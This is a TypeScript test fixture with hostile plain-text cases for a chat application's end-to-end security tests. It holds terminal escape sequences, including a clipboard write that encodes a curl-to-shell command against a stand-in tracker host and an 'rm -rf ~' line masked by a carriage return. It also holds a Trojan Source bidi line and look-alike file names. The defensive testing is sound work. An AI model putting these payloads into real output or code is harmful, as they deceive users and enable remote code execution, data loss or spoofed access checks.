/**
 * Text that reads in another order than it is stored, or as a name it is
 * not (issue 25, items 3, 9 and 10), and a block the server and the browser
 * drew differently (the hydration mismatch). What each case must show is
 * checked by e2e/hostile/hostile-plain-text.spec.ts, beyond the corpus's own
 * checks: the Terminal and IM views hold no live control, the inspector's
 * excerpt and the admin's views show bidi controls as marks, the chat holds
 * one `report.md`, and the reopened page logs no React error.
 */
import { fence, reply, type HostileCase, type HostileChunk, type HostileStep } from "../hostile-case";

/** A terminal's escape sequences a reply may carry: clear the screen, an OSC 8 link to the attacker, an OSC 52 clipboard write, a bell, a C1 CSI. */
export const TERMINAL_ESCAPES = {
  clearScreen: "\u001b[2J\u001b[H",
  osc8Link: "\u001b]8;;http://tracker.example.test/pwn\u001b\\click here\u001b]8;;\u001b\\",
  osc52Clipboard: "\u001b]52;c;Y3VybCBodHRwOi8vdHJhY2tlci5leGFtcGxlLnRlc3QgfCBzaA==\u0007",
  c1Csi: "\u009b31mred\u009b0m",
  overwrite: "rm -rf ~\rls -la   ",
} as const;

/** A Trojan Source line: stored as `access !== "user‮ ⁦// Check if admin⁩ ⁦"`, drawn as if it checked for an admin. */
export const TROJAN_SOURCE_LINE = 'if (access !== "user\u202e \u2066// Check if admin\u2069 \u2066") { grant(); }';

/** Ten names that all read "report.md" in the issue, and a name of one invisible character. */
export const LOOK_ALIKE_PATHS = [
  "re\u3164port.md",
  "report\ufe0f.md",
  "rep\u034fort.md",
  "\u115freport.md",
  "report\u17b4.md",
  "rep\u180bort.md",
  "report\uffa0.md",
  "\uff52\uff45\uff50\uff4f\uff52\uff54.md",
  "r\u0435port.md",
  "Report.md",
  "\u3164",
] as const;

/** The nested Each of the first suite's expansion case: 99 × 100 tags, inside every step and iteration bound, slow enough that a clock decided where it stopped. */
export const EXPANSION_BLOCK = [
  `$a = [${Array.from({ length: 99 }, (_, index) => index).join(", ")}]`,
  `$b = [${Array.from({ length: 100 }, (_, index) => index).join(", ")}]`,
  '<Each items={$a} as="x"><Each items={$b} as="y"><Tag>{x * y} {x + y} {x - y}</Tag></Each></Each>',
].join("\n");

/** A reply of one step whose tool calls are all made at once, then a text step. */
function toolsReply(calls: { name: string; input: unknown }[], after: string): HostileStep[] {
  const chunks: HostileChunk[] = calls.map((call, index) => ({ kind: "tool-call", id: `call_plain_${index + 1}`, name: call.name, argumentPieces: [JSON.stringify(call.input)] }));
  return [{ chunks }, { chunks: [{ kind: "text", text: after }] }];
}

export const PLAIN_TEXT_CASES: HostileCase[] = [
  {
    id: "plain-terminal-escapes",
    class: "plain-text",
    title: "a reply carrying terminal escapes (clear screen, OSC 8 link, OSC 52 clipboard, BEL, C1 CSI, a lone CR) and bidi overrides, for the Terminal and IM views",
    steps: reply(
      "Escapes follow. ",
      TERMINAL_ESCAPES.clearScreen,
      `Build passed. ${TERMINAL_ESCAPES.osc8Link} `,
      TERMINAL_ESCAPES.osc52Clipboard,
      ` ${TERMINAL_ESCAPES.c1Csi} ${TERMINAL_ESCAPES.overwrite}\n\n`,
      `Reversed: \u202etxt.exe\u202c and isolated \u2067abc\u2069, marks \u200e\u200f\u061c.\n\n`,
      "Escapes ended.",
    ),
    expect: { replyShows: ["Escapes follow.", "Escapes ended."] },
    dependsOn: "(9) the Terminal and IM views hand on live escape sequences and bidi overrides",
  },
  {
    id: "plain-bidi-source",
    class: "plain-text",
    title: "a Trojan Source line in prose and in a ui block with a finding, for the inspector's excerpt and the admin's source view and tree list",
    steps: reply(
      `Bidi follows. ${TROJAN_SOURCE_LINE}\n\n`,
      fence("ui", `<Summary>Checked \u202eadmin\u202c</Summary>\n<Gauge label="user\u202e \u2066// admin\u2069 \u2066">\u2067x\u2069</Gauge>`),
      "\nBidi ended.\n",
    ),
    expect: { replyShows: ["Bidi follows.", "Bidi ended."] },
    dependsOn: "(10) the admin views and the inspector render bidi controls live",
  },
  {
    id: "plain-artifact-look-alikes",
    class: "plain-text",
    title: "write_file report.md, then ten names that read as it (invisible fillers, selectors, fullwidth, a Cyrillic е, a capital) and one of a single U+3164",
    steps: toolsReply(
      [{ name: "write_file", input: { path: "report.md", content: "# Report\n\nThe real one.\n" } }, ...LOOK_ALIKE_PATHS.map((path) => ({ name: "write_file", input: { path, content: "# Report\n\nPlanted.\n" } }))],
      "Artifacts ended.",
    ),
    expect: { replyShows: ["Artifacts ended."] },
    dependsOn: "(3) artifact paths with invisible or look-alike characters are stored as the same name",
  },
  {
    id: "plain-expansion-reload",
    class: "plain-text",
    title: "a ui block whose nested Each multiplies (99 × 100 tags): reopened, the server and the browser must draw the same tree",
    ownChat: true,
    steps: reply("Expansion follows.\n\n", fence("ui", EXPANSION_BLOCK), "\nExpansion ended.\n"),
    expect: { replyShows: ["Expansion follows.", "Expansion ended."] },
    replyTimeoutMs: 40_000,
    dependsOn: "the evaluation budget's clock made the server and the browser draw the expansion differently (React error #418)",
  },
];
